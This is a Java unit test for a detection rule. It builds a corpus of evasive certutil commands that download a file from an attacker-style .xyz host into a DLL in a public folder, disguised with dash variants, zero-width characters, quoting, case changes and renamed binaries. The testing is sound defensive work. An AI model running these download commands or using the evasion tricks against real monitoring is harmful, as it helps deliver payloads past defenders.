package dev.bazahunt.rules;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bazahunt.telemetry.DeviceFileEvent;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

/**
 * A generated corpus of certutil download command lines, combining the evasions the Sentinel query misses:
 * option character, verb spelling, quote insertion, zero-width insertion, case, scheme, -split, and how
 * the binary is disguised. Every combination of the discrete choices is emitted, and a seeded random picks
 * where the inserted characters go, so the corpus is the same on every run.
 */
class HardenedCertutilEvasionCorpusTest {

    private static final char[] OPTION_CHARS = {'-', '/', '\u2013', '\u2014', '\u2015', '\u2212'};
    private static final String[] VERBS = {"urlcache", "url", "verifyctl", "verify"};
    private static final String[] INVISIBLES = {"\u200B", "\u200C", "\u200D", "\u200E", "\u200F", "\u202A", "\u202E",
        "\u2060", "\u2063", "\uFEFF", "\u00AD"};
    private static final String URL_PATH = "://pshe0pxe339.xyz/xe1t23ym0s.php";
    private static final String OUTPUT = "C:\\Users\\Public\\x8k2\\tmp1834.dll";

    /** How the downloader is disguised: file name, folder, PE original file name. */
    private enum Disguise {
        RENAMED("x8k2.exe", "C:\\Users\\Public\\x8k2\\x8k2.exe", "CertUtil.exe"),
        RENAMED_WITHOUT_VERSION_INFO("x8k2.exe", "C:\\Users\\Public\\x8k2\\x8k2.exe", null),
        RELOCATED("certutil.exe", "C:\\Users\\Public\\x8k2\\certutil.exe", "CertUtil.exe"),
        ORIGINAL_NAME_ONLY("cmd.exe", "C:\\ProgramData\\Intel\\cmd.exe", "CertUtil.exe");

        final String fileName;
        final String folder;
        final String originalFileName;

        Disguise(String fileName, String folder, String originalFileName) {
            this.fileName = fileName;
            this.folder = folder;
            this.originalFileName = originalFileName;
        }
    }

    private static final class Corpus {
        final List<DeviceFileEvent> rows = new ArrayList<>();
    }

    private static Corpus generate() {
        Random random = new Random(20210729L);
        Corpus corpus = new Corpus();
        for (char optionChar : OPTION_CHARS) {
            for (String verb : VERBS) {
                for (boolean quoted : new boolean[] {false, true}) {
                    for (boolean invisible : new boolean[] {false, true}) {
                        for (boolean upperCase : new boolean[] {false, true}) {
                            for (String scheme : new String[] {"http", "https"}) {
                                for (boolean split : new boolean[] {false, true}) {
                                    for (Disguise disguise : Disguise.values()) {
                                        corpus.rows.add(row(random, optionChar, verb, quoted, invisible, upperCase,
                                                scheme, split, disguise));
                                    }
                                }
                            }
                        }
                    }
                }
            }
        }
        return corpus;
    }

    private static DeviceFileEvent row(Random random, char optionChar, String verb, boolean quoted, boolean invisible,
            boolean upperCase, String scheme, boolean split, Disguise disguise) {
        String verbText = verb;
        if (quoted) {
            verbText = random.nextBoolean()
                    ? '"' + String.valueOf(optionChar) + verb + '"'
                    : optionChar + insertAt(verb, 1 + random.nextInt(verb.length() - 1), "\"") + "\"";
        } else {
            verbText = optionChar + verb;
        }
        String urlText = scheme + URL_PATH;
        if (invisible) {
            verbText = insertAt(verbText, 1 + random.nextInt(verbText.length() - 1), pick(random, INVISIBLES));
            urlText = insertAt(urlText, 1 + random.nextInt(scheme.length() - 1), pick(random, INVISIBLES));
        }
        String line = disguise.fileName + " " + verbText + (split ? " " + optionChar + "split" : "")
                + " " + optionChar + "f " + urlText + " " + OUTPUT;
        if (upperCase) {
            line = line.toUpperCase(java.util.Locale.ROOT);
        }
        DeviceFileEvent event = BazaCallFileEvents.payloadWrite(1, disguise.fileName, line);
        event.initiatingProcessFolderPath = disguise.folder;
        event.initiatingProcessVersionInfoOriginalFileName = disguise.originalFileName;
        return event;
    }

    private static String insertAt(String text, int index, String inserted) {
        return text.substring(0, index) + inserted + text.substring(index);
    }

    private static String pick(Random random, String[] choices) {
        return choices[random.nextInt(choices.length)];
    }

    @Test
    void hardenedRuleCatchesAtLeast95PercentOfTheCorpus() {
        Corpus corpus = generate();
        int hardened = 0;
        int faithful = 0;
        List<String> missed = new ArrayList<>();
        for (DeviceFileEvent event : corpus.rows) {
            if (HardenedCertutilRule.matches(event)) {
                hardened++;
            } else if (missed.size() < 5) {
                missed.add(event.initiatingProcessFileName + ": " + event.initiatingProcessCommandLine);
            }
            if (CertutilDownloadRule.matches(event)) {
                faithful++;
            }
        }
        double rate = 100.0 * hardened / corpus.rows.size();
        System.out.printf("evasion corpus: %d rows; hardened rule caught %d (%.2f %%), faithful rule %d (%.2f %%)%n",
                corpus.rows.size(), hardened, rate, faithful, 100.0 * faithful / corpus.rows.size());

        assertThat(corpus.rows).hasSizeGreaterThan(3000);
        assertThat(rate).as("missed, e.g. %s", missed).isGreaterThanOrEqualTo(95.0);
        assertThat(faithful).as("the corpus must be evasive").isLessThan(corpus.rows.size() / 10);
    }
}
